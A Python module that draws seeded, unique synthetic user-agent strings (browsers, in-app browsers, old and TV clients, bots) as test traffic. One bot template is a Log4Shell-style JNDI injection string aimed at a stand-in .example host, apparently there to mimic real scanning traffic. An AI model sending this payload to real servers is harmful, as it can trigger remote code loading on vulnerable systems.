"""User agents as a site gets them, each of them once, drawn from a seed: what speed is measured on without any data.

Seven in ten are current browsers in many versions, one in ten is a browser within an app, one in ten is old or a
television, and one in ten is a bot: half of these are bots of the list, half have names that no list knows.
"""

from random import Random
from typing import Final

from crawleruseragents import CRAWLER_USER_AGENTS_DATA

_KHTML: Final = "AppleWebKit/537.36 (KHTML, like Gecko)"
_IOS: Final = "AppleWebKit/605.1.15 (KHTML, like Gecko)"
_MODELS: Final = ("SM-S9%dB", "SM-A%d6B", "Pixel %d", "2%d1117TG", "CPH2%d", "V2%d", "moto g%d", "KFTR%d")
_DESKTOPS: Final = (
    "Windows NT 10.0; Win64; x64",
    "Macintosh; Intel Mac OS X 10_15_7",
    "X11; Linux x86_64",
    "X11; CrOS x86_64 14541.0.0",
)
_APPS: Final = (
    "[FB_IAB/FB4A;FBAV/5{0}.0.0.{1}.85;IABMV/1;]",
    "Instagram 3{0}.0.0.{1}.81 Android (34/14; 480dpi; 1080x2400; samsung; SM-S911B; en_GB)",
    "MicroMessenger/8.0.{0}.2701({1}) WeChat/arm64 Weixin NetType/WIFI Language/zh_CN",
    "[Pinterest/Android] {0}.{1}",
    "GSA/15.{0}.{1}.29.arm64",
)
_SYLLABLES: Final = ("Wun", "dro", "Kat", "lix", "Omi", "Tor", "zen", "Pla", "ver", "Quo", "Bre", "nix")
_DOES: Final = ("Bot", "Crawler", "Spider", "Fetcher", "Monitor", "Scanner", "Checker", "Agent", "Indexer", "")


def draw(count: int, seed: int = 1) -> list[str]:
    """Draw so many user agents, no two of them equal."""
    chance = Random(seed)
    kinds = [_chrome] * 3 + [_android] * 2 + [_iphone, _firefox, _app, _old, _bot]
    drawn: dict[str, None] = {}
    while len(drawn) < count:
        drawn[chance.choice(kinds)(chance)] = None
    return list(drawn)


def _build(chance: Random) -> str:
    return f"{chance.randint(90, 140)}.0.{chance.randint(4000, 7400)}.{chance.randint(10, 200)}"


def _model(chance: Random) -> str:
    return chance.choice(_MODELS) % chance.randint(1, 99)


def _chrome(chance: Random) -> str:
    base = f"Mozilla/5.0 ({chance.choice(_DESKTOPS)}) {_KHTML} Chrome/{_build(chance)} Safari/537.36"
    return base + chance.choice(("", "", f" Edg/{_build(chance)}", f" OPR/{chance.randint(70, 120)}.0.0.0"))


def _android(chance: Random) -> str:
    version, build = chance.randint(8, 16), f"Build/UP1A.23{chance.randint(1000, 9999)}.0{chance.randint(10, 99)}"
    device = f"Linux; Android {version}; {_model(chance)}{chance.choice(('', f' {build}'))}"
    samsung = chance.choice(("", "", f"SamsungBrowser/{chance.randint(14, 28)}.0 "))
    return f"Mozilla/5.0 ({device}) {_KHTML} {samsung}Chrome/{_build(chance)} Mobile Safari/537.36"


def _iphone(chance: Random) -> str:
    major, minor = chance.randint(12, 26), chance.randint(0, 7)
    device = chance.choice(("iPhone; CPU iPhone OS", "iPad; CPU OS"))
    firefox = f"FxiOS/{chance.randint(90, 142)}.0"
    browser = chance.choice((f"Version/{major}.{minor}", f"CriOS/{_build(chance)}", firefox))
    mobile = f"{chance.randint(15, 22)}{chance.choice('ABEFG')}{chance.randint(10, 400)}"
    return f"Mozilla/5.0 ({device} {major}_{minor} like Mac OS X) {_IOS} {browser} Mobile/{mobile} Safari/604.1"


def _firefox(chance: Random) -> str:
    version, minor = chance.randint(60, 142), chance.randint(0, 9)
    platform = chance.choice((*_DESKTOPS, "X11; Ubuntu; Linux x86_64", f"Android {chance.randint(8, 16)}; Mobile"))
    engine = "20100101" if "Android" not in platform else f"{version}.{minor}"
    return f"Mozilla/5.0 ({platform}; rv:{version}.{minor}) Gecko/{engine} Firefox/{version}.{minor}"


def _app(chance: Random) -> str:
    app = chance.choice(_APPS).format(chance.randint(10, 99), chance.randint(10, 400))
    device = f"Linux; Android {chance.randint(9, 16)}; {_model(chance)} Build/TP1A.{chance.randint(100000, 999999)}; wv"
    return f"Mozilla/5.0 ({device}) {_KHTML} Version/4.0 Chrome/{_build(chance)} Mobile Safari/537.36 {app}"


def _old(chance: Random) -> str:
    number = chance.randint(1, 4000)
    return chance.choice(
        (
            f"Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 6.1; Trident/4.0; .NET CLR 3.5.{number}; InfoPath.3)",
            (
                f"Opera/9.80 (Android; Opera Mini/{number % 60}.0.{number}/{number}.9; U; en) Presto/2.12.423"
                f" Version/12.16"
            ),
            f"Mozilla/5.0 (Web0S; Linux/SmartTV) {_KHTML} Chrome/{_build(chance)} Safari/537.36 WebAppManager",
            f"Mozilla/5.0 (SMART-TV; Linux; Tizen {number % 8}.0) {_KHTML} Version/{number}.0 TV Safari/537.36",
            f"Dalvik/2.1.0 (Linux; U; Android {chance.randint(5, 15)}; {_model(chance)} Build/QP1A.{number})",
            f"MyApp/{number} CFNetwork/{chance.randint(900, 1500)}.1 Darwin/{chance.randint(18, 24)}.{number % 10}.0",
        )
    )


def _bot(chance: Random) -> str:
    version = f"{chance.randint(0, 9)}.{chance.randint(0, 99)}"
    if chance.random() < 0.5:
        entry = chance.choice(CRAWLER_USER_AGENTS_DATA)
        return f"{chance.choice(entry['instances'] or ['curl'])} r{version}"
    name = "".join(chance.sample(_SYLLABLES, 2)) + chance.choice(_DOES)
    return chance.choice(
        (
            f"Mozilla/5.0 (compatible; {name}/{version}; +https://{name.lower()}.example/about)",
            f"Mozilla/5.0 {_KHTML[:-1]}; compatible; {name}/{version})",
            f"{name}/{version}",
            f"python-requests/2.{chance.randint(1, 40)}.{chance.randint(0, 99)}",
            f"Go-http-client/{version}",
            f"${{jndi:ldap://{name.lower()}.example/{version}}}",
        )
    )
